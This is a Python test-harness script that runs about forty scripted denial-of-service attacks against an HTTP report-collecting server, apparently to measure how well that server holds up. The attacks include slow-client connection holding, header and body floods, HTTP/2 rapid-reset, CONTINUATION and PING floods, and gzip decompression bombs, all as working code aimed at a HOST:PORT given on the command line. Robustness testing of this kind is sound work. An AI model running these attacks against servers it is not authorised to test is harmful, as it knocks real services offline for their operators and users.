#!/usr/bin/env python3
"""The scripted attacker, a separate program so that it does not slow down the measuring process:

    attacks.py NAME HOST:PORT [--tls h2|http/1.1] [--connections N] [--seconds S] [--count N]

It attacks, and prints one line of JSON with the attempts and their results. Each attack is a function here, built
from the patterns in `connection_flood`.
"""

import argparse
import gzip
import json
import os
import sys
import time

import connection_flood
import http2_frames
from http2_frames import frame, head

REPORT = (b'[{"type":"csp-violation","age":1,"url":"https://shop.example/","body":{"documentURL":'
          b'"https://shop.example/","effectiveDirective":"img-src","blockedURL":"inline"}}]')
MIB = 1 << 20


def h1(*headers, body=b""):
    """Builds a request over HTTP/1.1, complete or not."""
    return b"\r\n".join([b"POST /report HTTP/1.1", b"host: reports.test", *headers, b"", body])


UPLOAD = h1(b"content-length: %d" % len(REPORT), body=REPORT)
CHUNKED = h1(b"transfer-encoding: chunked")
H2_UPLOAD = http2_frames.OPENING + http2_frames.upload(1, REPORT)


def streams(make, count, first=1):
    """The same on one stream after the other."""
    return b"".join(make(first + 2 * number) for number in range(count))


def held(opening, **how):
    """An attack that holds connections."""
    return lambda target, given: connection_flood.hold(target, given.connections, given.seconds, opening, **how)


def flooded(opening, payload, **how):
    """An attack that sends as much as it can."""
    return lambda target, given: connection_flood.flood(
        target, given.connections, given.seconds, opening, payload, **how)


def asked(request):
    """An attack that repeats a request."""
    return lambda target, given: connection_flood.request_repeatedly(target, given.connections, given.count, request())


def aborted(beginning):
    """An attack that starts requests and resets their connections."""
    return lambda target, given: connection_flood.abort(target, given.count, beginning)


def bomb():
    """A gzip body that inflates to 64 MiB."""
    body = gzip.compress(bytes(64 * MIB))
    return h1(b"connection: close", b"content-encoding: gzip", b"content-length: %d" % len(body), body=body)


def large_gzip():
    """A gzip body that is too large as it is sent."""
    return h1(b"connection: close", b"content-encoding: gzip", b"content-length: %d" % (4 * MIB),
              body=gzip.compress(os.urandom(4 * MIB))[:4 * MIB])


def many_members():
    """A body of nothing but gzip members that hold nothing."""
    body = gzip.compress(b"") * (MIB // 20)
    return h1(b"connection: close", b"content-encoding: gzip", b"content-length: %d" % len(body), body=body)


def many_small_streams(target, given):
    """Uploads on each connection as fast as they are answered, a hundred at a time: what a client may do."""
    end = time.monotonic() + given.seconds
    active = {target.connect(): [http2_frames.Reader(), http2_frames.OPENING, 0, 1] for _ in range(given.connections)}
    answered = 0
    while time.monotonic() < end:
        for connection, state in active.items():
            reader, left, open_streams, stream = state
            if not left and not open_streams:
                left, open_streams = streams(lambda at: http2_frames.upload(at, REPORT), 100, stream), 100
                stream += 200
            for kind, flags, _, payload in reader.frames(connection_flood.receive(connection) or b""):
                if kind == http2_frames.HEADERS:
                    open_streams, answered = open_streams - 1, answered + 1
                if kind == http2_frames.PING and not flags & http2_frames.ACK:
                    left += frame(http2_frames.PING, http2_frames.ACK, payload=payload)
            left = left[connection_flood.send(connection, left):]
            state[1:] = left, open_streams, stream
    return {"tried": answered}


def stalled_streams(body):
    """Uploads that miss their end, a hundred on each connection."""
    return http2_frames.OPENING + frame(http2_frames.WINDOW_UPDATE, payload=b"\x3f\0\0\0") + streams(
        lambda at: head(at) + frame(http2_frames.DATA, 0, at, body), 100)


PING = frame(http2_frames.PING, payload=b"12345678")
PONG = frame(http2_frames.PING, http2_frames.ACK, payload=b"12345678")
LONG_FIELD = http2_frames.field(b"x" * 100, b"y" * 16_000)

ATTACKS = {
    # Slow clients.
    "silent": held(b""),
    "slow_head": held(h1(b"x: ")[:-4], drip=b"a"),
    "stalled_body": held(h1(b"content-length: 1000")),
    "dripping_body": held(h1(b"content-length: 100000"), drip=b" "),
    "large_bodies": held(h1(b"content-length: %d" % MIB, body=b" " * (MIB - 1))),
    "idle": held(UPLOAD),
    "half_a_preface": held(http2_frames.PREFACE[:10]),
    "h2_slow_head": held(http2_frames.OPENING + head(1, 0)),
    "h2_slow_second_head": held(H2_UPLOAD + head(3, 0), answers_pings=True),
    "h2_idle": held(H2_UPLOAD, answers_pings=True),
    "h2_stalled_streams": held(stalled_streams(b"[")),
    "h2_zero_window": held(http2_frames.PREFACE + http2_frames.settings(window=0)
                           + streams(lambda at: http2_frames.upload(at, b"no JSON"), 100), answers_pings=True),
    "unread_answers": flooded(b"", UPLOAD * 500, reads=False),
    "unread_problems": flooded(b"", h1(b"content-length: 2", body=b"{}") * 500, reads=False),
    "h2_unread_pings": flooded(http2_frames.OPENING, PING * 4000, reads=False),
    # Endless heads and bodies.
    "long_head": flooded(h1(b"x: ")[:-4], b"a" * 65536),
    "many_headers": flooded(h1()[:-2], b"a: b\r\n" * 10_000),
    "long_target": flooded(b"POST /", b"a" * 65536),
    "chunk_extensions": flooded(CHUNKED + b"1;", b"a" * 65536),
    "trailers": flooded(CHUNKED + b"0\r\n", b"a: b\r\n" * 10_000),
    "tiny_chunks": flooded(CHUNKED, b"1\r\n \r\n" * 10_000),
    "garbage": flooded(b"", os.urandom(65536)),
    "pipelined": flooded(b"", UPLOAD * 500),
    "h2_long_head": flooded(http2_frames.OPENING, streams(
        lambda at: head(at, 0) + frame(http2_frames.CONTINUATION, 0, at, LONG_FIELD) * 4, 1)),
    "h2_many_headers": flooded(http2_frames.OPENING, streams(
        lambda at: head(at, 5, http2_frames.field(b"x", b"y") * 5000), 200)),
    # HTTP/2 frames that are cheap for the client.
    "h2_rapid_reset": flooded(http2_frames.OPENING, streams(
        lambda at: head(at, 5) + frame(http2_frames.RESET, 0, at, b"\0\0\0\x08"), 5000)),
    "h2_resets_by_the_server": flooded(http2_frames.OPENING, streams(
        lambda at: head(at) + frame(http2_frames.WINDOW_UPDATE, 0, at, bytes(4)), 5000)),
    "h2_continuations": flooded(http2_frames.OPENING + head(1, 0), frame(http2_frames.CONTINUATION, 0, 1) * 4000),
    "h2_settings": flooded(http2_frames.OPENING, http2_frames.settings() * 4000),
    "h2_pings": flooded(http2_frames.OPENING, PING * 4000),
    "h2_pongs": flooded(http2_frames.OPENING, PONG * 4000),
    "h2_window_updates": flooded(http2_frames.OPENING, frame(http2_frames.WINDOW_UPDATE, payload=b"\0\0\0\1") * 4000),
    "h2_empty_data": flooded(http2_frames.OPENING + head(1), frame(http2_frames.DATA, 0, 1) * 4000),
    "h2_padding": flooded(http2_frames.OPENING + head(1), frame(
        http2_frames.DATA, http2_frames.PADDED, 1, b"\xff" + bytes(255)) * 400),
    "h2_many_streams": flooded(http2_frames.OPENING, streams(lambda at: http2_frames.upload(at, REPORT), 5000)),
    "h2_small_streams": many_small_streams,
    # Repeated requests.
    "bombs": asked(bomb),
    "large_gzip": asked(large_gzip),
    "gzip_members": asked(many_members),
    "no_json": asked(lambda: h1(b"connection: close", b"content-length: 2", body=b"\x1b[")),
    "too_large": asked(lambda: h1(
        b"expect: 100-continue", b"connection: close", b"content-length: 99999999")),
    "too_long_a_head": asked(lambda: h1(b"x: " + b"\x1b" * 40_000)),
    "no_http": asked(lambda: b"\x1b[31m\n\n"),
    "no_tls": asked(lambda: b"\x16\x03\x01\x02\0\x1b[31m\xff\xff\n\n" + bytes(600)),
    "client_disconnected": aborted(h1(b"content-length: 100", body=b"\x1b[")),
    "unfinished_resets": aborted(http2_frames.OPENING + head(1)),
}


def main():
    """Attacks as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", maxsplit=1)[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("target", metavar="HOST:PORT")
    parser.add_argument("--tls", choices=("h2", "http/1.1"))
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--count", type=int, default=100)
    given = parser.parse_args()
    print(json.dumps(ATTACKS[given.name](connection_flood.Target(given.target, given.tls), given)), flush=True)


if __name__ == "__main__":
    sys.exit(main())
